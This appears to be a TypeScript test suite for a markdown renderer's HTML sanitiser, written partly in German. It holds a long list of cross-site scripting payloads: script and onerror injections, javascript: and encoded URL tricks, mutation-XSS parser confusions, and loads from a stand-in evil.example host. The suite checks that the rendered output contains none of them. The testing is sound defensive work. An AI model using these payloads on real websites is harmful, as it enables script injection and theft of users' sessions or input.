import { renderMarkdown } from '../index.js';

const allowedAttributes = new Set([
  'alt', 'aria-label', 'class', 'colspan', 'decoding', 'dir', 'height', 'href', 'id', 'lang', 'loading', 'open', 'referrerpolicy', 'rel',
  'reversed', 'role', 'rowspan', 'scope', 'src', 'start', 'tabindex', 'title', 'type', 'value', 'width',
]);
const allowedTags = /^(?:a|abbr|b|blockquote|br|caption|cite|code|dd|del|details|dfn|div|dl|dt|em|figcaption|figure|h[2-6]|hr|i|img|ins|kbd|li|mark|ol|p|pre|q|s|samp|small|span|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|tr|u|ul|var)$/;
const safeAddress = /^(?:https?:\/\/[a-z0-9.[\]:-]+[/?#]?|mailto:|tel:|\/(?![/\\])|#t-)/;

/** Everything in the HTML that is not on the short list, whatever the input was. */
function dangersIn(html: string): readonly string[] {
  const dangers: string[] = [];
  let rest = '';
  let end = 0;
  for (const tag of html.matchAll(/<(\/?)([^\s/>]*)((?:"[^"]*"|[^">])*)>/g)) {
    rest += html.slice(end, tag.index);
    end = tag.index + tag[0].length;
    if (!allowedTags.test(tag[2] ?? '')) dangers.push(tag[0]);
    for (const [, name = '', value = ''] of (tag[3] ?? '').matchAll(/([^\s=/"]+)(?:="([^"]*)")?/g)) {
      if (!allowedAttributes.has(name)) dangers.push(`${name} in ${tag[0]}`);
      if ((name === 'href' || name === 'src') && !safeAddress.test(value)) dangers.push(`${name}=${value}`);
      if (name === 'src' && !value.startsWith('/')) dangers.push(`loads ${value}`);
      if (name === 'id' && !value.startsWith('t-')) dangers.push(`id ${value}`);
    }
  }
  rest += html.slice(end);
  if (/[<>]/.test(rest)) dangers.push(`loose bracket in ${rest}`);
  return dangers;
}

const vectors = [
  '<script>alert(1)</script>', '<ScRiPt src=//evil.example/x.js></sCrIpT>', '<script', '<script>alert(1)', '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>', '<img/src=x/onerror=alert(1)>', '<img src="x" onerror="alert(1)"', '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src=`x`onerror=alert(1)>', '<img src="javascript:alert(1)">', '<img srcset="//evil.example/1.png 2x">', '<img src=//evil.example/pixel.gif>',
  '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<template><img src=x onerror=alert(1)></template>', '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>', '<title><img src=x onerror=alert(1)></title>', '<plaintext><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<iframe src=//evil.example></iframe>', '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">', '<video src=//evil.example onerror=alert(1)><source src=x onerror=alert(1)></video>', '<audio src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>', '<a href="JaVaScRiPt:alert(1)">x</a>', '<a href=" javascript:alert(1)">x</a>', '<a href="java\tscript:alert(1)">x</a>', '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>', '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>', '<a href="\u0001javascript:alert(1)">x</a>', '<a href="javascript&#x3a;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>', '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', '<a href="file:///etc/passwd">x</a>', '<a href="blob:https://x/1">x</a>', '<a href="view-source:x">x</a>',
  '<a href="/\\evil.example">x</a>', '<a href="\\\\evil.example">x</a>', '<a href="/\t/evil.example">x</a>', '<a href="https://user:pw@evil.example">x</a>', '<a href="x" onclick="alert(1)" style="position:fixed">x</a>',
  '[x](javascript:alert(1))', '[x](JAVASCRIPT:alert(1))', '[x](<java\u0000script:alert(1)>)', '[x](javascript&colon;alert(1))', '[x](&#x6A;avascript:alert(1))', '[x](data:text/html,x)', '![x](javascript:alert(1))',
  '<javascript:alert(1)>', '[x]: javascript:alert(1)\n\n[x]', '[x](http://a.de "a" onmouseover=\\"alert(1)")', '![x" onerror="alert(1)](/a.png)', '![x](/a.png"onerror="alert(1))', '[x](</a"onclick="alert(1)>)',
  '```"><script>alert(1)</script>\nx\n```', '```x" onclick="alert(1)\nx\n```', '`<script>alert(1)</script>`', '# <img src=x onerror=alert(1)>', '# x {#"><script>alert(1)</script>}',
  '| <script>alert(1)</script> |\n|--|\n| <img src=x onerror=alert(1)> |', '| " onclick="x |\n|--|\n| a |', '[^1]\n\n[^1]: <script>alert(1)</script>', '[^"><script>]\n\n[^"><script>]: x', '> [!NOTE]\n> <script>alert(1)</script>', '> [!<script>]\n> x',
  '- [x] <input onfocus=alert(1) autofocus>', '<style>@import "//evil.example/x.css";</style>', '<link rel=stylesheet href=//evil.example>', '<meta http-equiv=refresh content="0;url=//evil.example">', '<base href="//evil.example/">',
  '<div style="background:url(//evil.example/x)">x</div>', '<p style="position:fixed;inset:0">x</p>', '<font color=red>x</font>', '<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>',
  '<isindex action=javascript:alert(1)>', '<marquee onstart=alert(1)>x</marquee>', '<details open ontoggle=alert(1)>x</details>', '<body onload=alert(1)>', '<html onmouseover=alert(1)>', '<keygen autofocus onfocus=alert(1)>',
  '<p id="root" name="cookie">x</p>', '<a id="location" href="/x">x</a>', '<img name="getElementById" src="/a.png">', '<div role="dialog" aria-modal="true" tabindex="5" data-x="1" class="mantine-Modal-root">x</div>', '<span class="text-check" aria-label="Lüge" role="alert"></span>',
  '<!--><img src=x onerror=alert(1)>-->', '<!-- --!><img src=x onerror=alert(1)> -->', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<?xml version="1.0"?><img src=x onerror=alert(1)>', '<!DOCTYPE html><img src=x onerror=alert(1)>',
  '\u003Cimg src=x onerror=alert(1)\u003E', '&lt;script&gt;alert(1)&lt;/script&gt;', '<table><td background="javascript:alert(1)">x</td></table>', '<a href="https://a.de"><a href="javascript:alert(1)">x</a></a>', '<p>a</p></div></main><div class="text-callout-note"><script>x</script>',
  '<a ping="//evil.example" href="/x" target="_blank" download>x</a>', '<abbr title="\'"><img src=x onerror=alert(1)>">x</abbr>', '<img alt="<img src=x onerror=alert(1)>" src="/a.png">', '<h2 id="x"><script>alert(1)</script>">x</h2>',
];

test.each(vectors)('nothing runs, loads or takes over the page: %j', (vector) => {
  for (const source of [vector, `Text ${vector} danach`, `- ${vector}\n\n> ${vector}`, `<div>${vector}</div>`]) {
    expect(dangersIn(renderMarkdown(source).html)).toEqual([]);
  }
});

test('the check itself finds dangers', () => {
  expect(dangersIn('<p onclick="x">a</p><script>b</script><a href="javascript:x">c</a><img src="https://a.de/x">')).toHaveLength(5);
  expect(dangersIn('<p>a < b</p>').length).toBeGreaterThan(0);
});

describe('what is not dangerous stays readable', () => {
  test('a tag named in a sentence does not swallow what follows', () => {
    expect(renderMarkdown('Das Tag <script> gehört nicht hierher.').html).toBe('<p>Das Tag &lt;script&gt; gehört nicht hierher.</p>');
    expect(renderMarkdown('<style>\nvergessen\n\nDer Text danach').plainText).toContain('Der Text danach');
    expect(renderMarkdown('<!-- vergessen\n\nDer Text danach').plainText).toContain('Der Text danach');
  });

  test('unclosed and stray tags do not break out of the text', () => {
    expect(renderMarkdown('<div><b>offen\n\nnächster Absatz').html).toBe('<div><b>offen\n<p>nächster Absatz</p>\n</b></div>');
    expect(renderMarkdown('</div></div>\n\nText').html).toBe('<p>Text</p>');
  });

  test('invisible controls are taken out of what is shown', () => {
    expect(renderMarkdown('a\0b \u202Eumgedreht\u202C \uD800').html).toBe('<p>ab umgedreht \uFFFD</p>');
  });
});
